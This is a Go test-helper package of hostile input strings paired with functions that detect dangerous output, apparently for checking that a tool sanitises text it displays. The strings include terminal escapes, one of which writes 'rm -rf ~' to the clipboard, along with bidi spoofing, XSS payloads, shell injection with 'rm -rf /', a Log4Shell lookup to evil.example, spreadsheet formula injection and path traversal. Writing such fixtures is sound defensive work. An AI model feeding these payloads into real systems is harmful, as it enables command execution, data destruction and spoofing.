package hostile

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Forged begins a line that looks like another application's.
const Forged = "forged  cloudformation  Synced  Healthy"

// Texts returns texts by what they try: to drive a terminal, to read as something else, to
// begin a line or a field of their own, to be run by whatever shows them, or to be too much.
// They have no zero byte, which neither arguments nor git's commits can hold.
func Texts() map[string]string {
	return map[string]string{
		"clears the screen":                     "x\x1b[2J\x1b[H",
		"colours what follows":                  "\x1b[31mred",
		"renames the window":                    "\x1b]0;owned\a",
		"writes the clipboard":                  "\x1b]52;c;cm0gLXJmIH4=\a",
		"links to elsewhere":                    "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\",
		"asks the terminal to answer":           "\x1b[6n\x1b[c\x05",
		"drives it by eight-bit controls":       "\u009b2J\u0090q\u009c",
		"drives it by bytes that are not UTF-8": "a\x9b2J\xff\xfe",
		"writes over what stands there":         "Failed\rSynced",
		"takes back what stands there":          "Failed\b\b\b\b\b\bSynced",
		"begins a line":                         "x\n" + Forged,
		"begins a line as Windows does":         "x\r\n" + Forged,
		"begins a line as Unicode may":          "x\u0085" + Forged,
		"begins a cell":                         "x\t" + Forged,
		"turns text around":                     "invoice\u202elmay.exe",
		"isolates text":                         "\u2066a\u2069\u2067b\u2068",
		"marks a direction":                     "\u200e\u200f\u061c",
		"hides in characters without a shape":   "dri\u200bft\u200dle\u2060ss\ufeff",
		"hides in tags":                         "x\U000e0041\U000e0042",
		"looks like another":                    "\u0440\u0430ypal",
		"piles up marks":                        "a" + strings.Repeat("\u0301", 500),
		"is half a surrogate":                   "\xed\xa0\x80",
		"is overlong":                           "\xc0\xaf\xc0\xae",
		"is a script":                           "<script>alert(1)</script>",
		"is an image":                           "\"><img src=x onerror=alert(1)>",
		"is a link that runs":                   "[x](javascript:alert(1))",
		"ends a comment":                        "--> <b>bold</b> *//",
		"ends a JSON string":                    "\",\"state\":\"success\",\"x\":\"",
		"ends a YAML value":                     "x\"\napplications: []\n---\n",
		"is run by a shell":                     "$(id) `id` ; rm -rf / | cat & > /etc/passwd",
		"is a format":                           "%s%n%x%!d(MISSING) {{.Secret}} ${jndi:ldap://evil.example/a} {{7*7}}",
		"is a cell that calculates":             "=cmd|' /C calc'!A0",
		"calls everybody":                       "@everyone <!channel> @octocat #1 closes #1",
		"is a command of CI":                    "::set-output name=x::y\n##vso[task.setvariable]",
		"is an intrinsic":                       "{{resolve:secretsmanager:prod}} !Sub ${AWS::AccountId}",
		"is a path":                             "../../etc/passwd",
		"is nothing":                            "",
		"is white space":                        "  \t  ",
		"is very long":                          strings.Repeat("long ", 20_000),
		"is very long without a break":          strings.Repeat("é", 50_000),
	}
}

// Trouble says what a text that is shown does to whoever looks at it: what a terminal obeys,
// what changes the direction of text, what is not UTF-8. "" where it is inert. A line break
// is for the caller to judge, by Lines.
func Trouble(shown string) string {
	if !utf8.ValidString(shown) {
		return "it is not UTF-8"
	}
	for _, r := range shown {
		if r != '\n' && unicode.IsControl(r) {
			return fmt.Sprintf("the control character %U gets through", r)
		}
		if unicode.Is(unicode.Bidi_Control, r) {
			return fmt.Sprintf("%U gets through, which changes the direction of text", r)
		}
	}
	return ""
}

// Lines says whether a text that is shown has a line that one of Texts began.
func Lines(shown string) string {
	for line := range strings.Lines(shown) {
		if strings.HasPrefix(line, "forged ") {
			return "a line of somebody else's begins where ours do"
		}
	}
	return ""
}
